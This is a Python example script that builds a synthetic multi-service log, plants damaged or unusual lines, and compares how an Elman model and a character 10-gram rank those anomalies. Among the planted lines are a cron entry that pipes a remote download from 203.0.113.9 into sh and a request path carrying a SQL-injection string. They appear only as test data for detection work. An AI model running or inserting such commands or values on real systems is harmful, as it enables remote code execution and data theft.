"""Anomaly detection in a log: how many of the planted anomalies are detected.

    python examples/odd_lines.py

The log of five services is generated from a seed. A model of preset `quick` and a character n-gram are trained on the
first part, which is clean. In the second part one line in a hundred is anomalous: damaged, or a line that no service
writes. Every line is scored by itself, and the highest-scoring lines are flagged, as many as there are anomalies. The
score of a line is the mean or the sum of the losses of its characters, the largest of them, the sum of the five
largest, or their mean plus that of all.
"""

from __future__ import annotations

import random
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from itertools import chain

import elman
from elman.model.score_lines import AGGREGATIONS, score_lines
from elman.text import Corpus
from ngram import NGram

SEEDS = (7, 8, 9)
TRAINING, TESTING, ANOMALIES = 9_000, 10_000, 100
UPDATES = 1_300
"""About six seconds of preset quick; a number of updates is reproducible, a time limit is not."""
ORDER = 10
"""Order of the n-gram: lower ones detect less, and 12 detects little more in twice the memory."""

USERS = ["anna", "ben", "chloe", "dmitri", "erin", "farid", "grace", "hugo", "ines", "jonas"]
PATHS = [
    "/",
    "/login",
    "/items",
    "/items/{n}",
    "/cart",
    "/cart/checkout",
    "/search?q={w}",
    "/static/app.js",
    "/api/v2/stock/{n}",
]
WORDS = ["lamp", "chair", "table", "shelf", "mirror", "carpet", "vase", "clock", "frame", "bench"]
JOBS = ["thumbnails", "invoices", "cleanup", "newsletter", "backup-index"]
TABLES = ["items", "orders", "users", "sessions", "stock"]


def web(r: random.Random) -> str:
    """Return a web request."""
    path = r.choice(PATHS).format(n=r.randint(1000, 9999), w=r.choice(WORDS))
    method = "POST" if "checkout" in path or path == "/login" else "GET"
    status = r.choices([200, 304, 302, 404, 500], [80, 10, 5, 4, 1])[0]
    address = f"10.0.{r.randint(0, 3)}.{r.randint(2, 254)}"
    size = 0 if status == 304 else r.randint(180, 48_000)
    return f'web-{r.randint(1, 4)} nginx: {address} "{method} {path} HTTP/1.1" {status} {size} {r.randint(1, 400)}ms'


def ssh(r: random.Random) -> str:
    """Return a login or logout."""
    user, number = r.choice(USERS), r.randint(800, 32_000)
    if r.random() < 0.5:
        return f"gate sshd[{number}]: session closed for user {user}"
    key = f"10.8.0.{r.randint(2, 60)} port {r.randint(32_768, 60_999)}"
    return f"gate sshd[{number}]: Accepted publickey for {user} from {key} ssh2"


def database(r: random.Random) -> str:
    """Return a slow query or a checkpoint."""
    if r.random() < 0.3:
        share = f"{r.randint(1, 9)}.{r.randint(0, 9)}%"
        return f"db-1 postgres: checkpoint complete: wrote {r.randint(20, 900)} buffers ({share})"
    query = f"select * from {r.choice(TABLES)} where id = {r.randint(1, 99_999)}"
    return f"db-1 postgres: duration: {r.randint(200, 4000)}.{r.randint(0, 999):03} ms  {query}"


def worker(r: random.Random) -> str:
    """Return the start or end of a job."""
    job, number = r.choice(JOBS), f"{r.randrange(16**8):08x}"
    if r.random() < 0.5:
        return f"worker-{r.randint(1, 3)} queue: job {number} {job} started"
    return f"worker-{r.randint(1, 3)} queue: job {number} {job} done in {r.randint(1, 90)}.{r.randint(0, 9)}s"


def cron(r: random.Random) -> str:
    """Return a scheduled job."""
    return f"gate CRON[{r.randint(800, 32_000)}]: (root) CMD (run-parts /etc/cron.{r.choice(['hourly', 'daily'])})"


SERVICES: list[Callable[[random.Random], str]] = [web, ssh, database, worker, cron]


def make_log(r: random.Random, count: int, second: float = 0) -> list[str]:
    """Return `count` lines with increasing timestamps."""
    lines = []
    for _ in range(count):
        second += r.expovariate(0.5)
        day, rest = divmod(int(second), 86_400)
        clock = f"2026-03-{1 + day:02}T{rest // 3600:02}:{rest // 60 % 60:02}:{rest % 60:02}"
        lines.append(f"{clock} {r.choices(SERVICES, [60, 10, 10, 15, 5])[0](r)}")
    return lines


def _split(line: str) -> tuple[str, str]:
    """Split a line into its timestamp and the rest."""
    timestamp, _, body = line.partition(" ")
    return timestamp, body


def swap_letters(r: random.Random, line: str) -> str:
    """Swap two neighbouring letters."""
    positions = [n for n in range(20, len(line) - 1) if line[n : n + 2].isalpha() and line[n] != line[n + 1]]
    n = r.choice(positions)
    return line[:n] + line[n + 1] + line[n] + line[n + 2 :]


def truncate(r: random.Random, line: str) -> str:
    """End the line too early."""
    return line[: r.randint(25, len(line) - 3)]


def merge_lines(r: random.Random, line: str) -> str:
    """Begin the line again before it has ended."""
    return line[: r.randint(30, len(line) - 5)] + line[: r.randint(25, len(line))]


def garble(r: random.Random, line: str) -> str:
    """Replace four characters by noise."""
    n = r.randint(20, len(line) - 4)
    return line[:n] + "".join(chr(r.randint(33, 126)) for _ in range(4)) + line[n + 4 :]


def drop_field(r: random.Random, line: str) -> str:
    """Drop a field."""
    words = line.split(" ")
    del words[r.randrange(1, len(words) - 1)]
    return " ".join(words)


def unseen_event(r: random.Random, line: str) -> str:
    """Return a line that no service writes."""
    return _split(line)[0] + " " + r.choice([
        "web-2 kernel: Out of memory: Killed process 4711 (nginx) total-vm:812344kB",
        "gate sshd[2201]: Failed password for root from 203.0.113.9 port 50122 ssh2",
        "db-1 postgres: FATAL:  remaining connection slots are reserved",
        "worker-1 queue: job 00000000 newsletter failed: TimeoutError",
        "Traceback (most recent call last):",
        "gate CRON[5120]: (anna) CMD (curl -s http://203.0.113.9/x | sh)",
        "web-1 nginx: worker process 31 exited on signal 11",
    ])  # fmt: skip


def unusual_value(r: random.Random, line: str) -> str:
    """Return a web request with one unusual value."""
    address, number = f"10.0.{r.randint(0, 3)}.{r.randint(2, 254)}", r.randint(1000, 9999)
    request = r.choice([
        f'{address} "DELETE /items/{number} HTTP/1.1" 200 312 9ms',
        f'{address} "GET /items/{number} HTTP/1.1" 503 190 30001ms',
        f'198.51.100.{r.randint(2, 254)} "GET /items/{number} HTTP/1.1" 200 4410 12ms',
        f'{address} "GET /items/{number}%27%20OR%201=1 HTTP/1.1" 404 512 3ms',
        f'{address} "GET /admin HTTP/1.1" 200 9120 7ms',
    ])  # fmt: skip
    return f"{_split(line)[0]} web-{r.randint(1, 4)} nginx: {request}"


KINDS = [swap_letters, truncate, merge_lines, garble, drop_field, unseen_event, unusual_value]


def _name(kind: Callable[..., str]) -> str:
    return kind.__name__.replace("_", " ")


def plant_anomalies(seed: int) -> tuple[list[str], list[str], dict[int, str]]:
    """Return training lines, test lines, and the kinds of the anomalies by their index in the latter."""
    r = random.Random(seed)
    training, testing = make_log(r, TRAINING), make_log(r, TESTING, 30_000)
    odd = {}
    for count, n in enumerate(r.sample(range(TESTING), ANOMALIES)):
        kind = KINDS[count % len(KINDS)]
        testing[n] = kind(r, testing[n])
        odd[n] = _name(kind)
    return training, testing, odd


def average_precision(ranking: Iterable[bool]) -> float:
    """Return the mean precision at the rank of every anomaly, given the lines by descending score."""
    precisions: list[float] = []
    for rank, is_odd in enumerate(ranking, 1):
        if is_odd:
            precisions.append((len(precisions) + 1) / rank)
    return sum(precisions) / len(precisions)


@dataclass
class Detections:
    """The results of one scoring method over several logs."""

    odd: Counter[str] = field(default_factory=Counter)
    precisions: list[float] = field(default_factory=list)

    def add(self, scores: list[float], odd: dict[int, str]) -> None:
        """Flag the highest-scoring lines of a log, as many as there are anomalies."""
        ranking = sorted(range(len(scores)), key=lambda n: -scores[n])
        self.odd.update(odd[n] for n in ranking[: len(odd)] if n in odd)
        self.precisions.append(average_precision(n in odd for n in ranking))

    def row(self) -> list[str]:
        """Return the results as printed."""
        recall = self.odd.total() / (ANOMALIES * len(SEEDS))
        kinds = [str(self.odd[_name(kind)]) for kind in KINDS]
        return [f"{recall:.1%}", f"{sum(self.precisions) / len(SEEDS):.3f}", *kinds]


def score_all(training: list[str], testing: list[str]) -> dict[str, list[float]]:
    """Return the score of each line by every method."""
    corpus = Corpus.from_text("\n".join(training) + "\n")
    model = elman.train(corpus, preset="quick", max_updates=UPDATES).model
    lines = list(chain.from_iterable(score_lines(model, ["\n".join(testing)])))
    ngram = NGram(training, ORDER)
    losses = [ngram.losses(line) for line in testing]
    return {
        "elman, mean": [line.nats_per_char for line in lines],
        "elman, sum": [line.nats for line in lines],
        "elman, maximum": [line.worst_nats for line in lines],
        "elman, five highest": [line.worst5_nats for line in lines],
        "elman, five highest and mean": [AGGREGATIONS["worst5+mean"](line) for line in lines],
        f"{ORDER}-gram, mean": [sum(loss) / len(loss) for loss in losses],
        f"{ORDER}-gram, sum": [sum(loss) for loss in losses],
        f"{ORDER}-gram, maximum": [max(loss) for loss in losses],
    }


def main() -> None:
    """Generate the logs, train, score, print."""
    detections: dict[str, Detections] = defaultdict(Detections)
    for seed in SEEDS:
        training, testing, odd = plant_anomalies(seed)
        for name, scores in score_all(training, testing).items():
            detections[name].add(scores, odd)
    total, of_kind = (
        ANOMALIES * len(SEEDS),
        Counter(name for seed in SEEDS for name in plant_anomalies(seed)[2].values()),
    )
    print(f"{len(SEEDS)} logs: {TRAINING} clean training lines, {TESTING} test lines, {ANOMALIES} of them anomalous")
    print(f"precision and recall of the {ANOMALIES} highest-scoring lines; then detections by kind, {total} in total\n")
    head = ["", "precision", "average precision", *(f"{name} ({of_kind[name]})" for name in map(_name, KINDS))]
    for name, *columns in [head, *([name, *method.row()] for name, method in detections.items())]:
        print(
            name.ljust(24), *(text.rjust(len(title)) for text, title in zip(columns, head[1:], strict=True)), sep="  "
        )


if __name__ == "__main__":
    main()
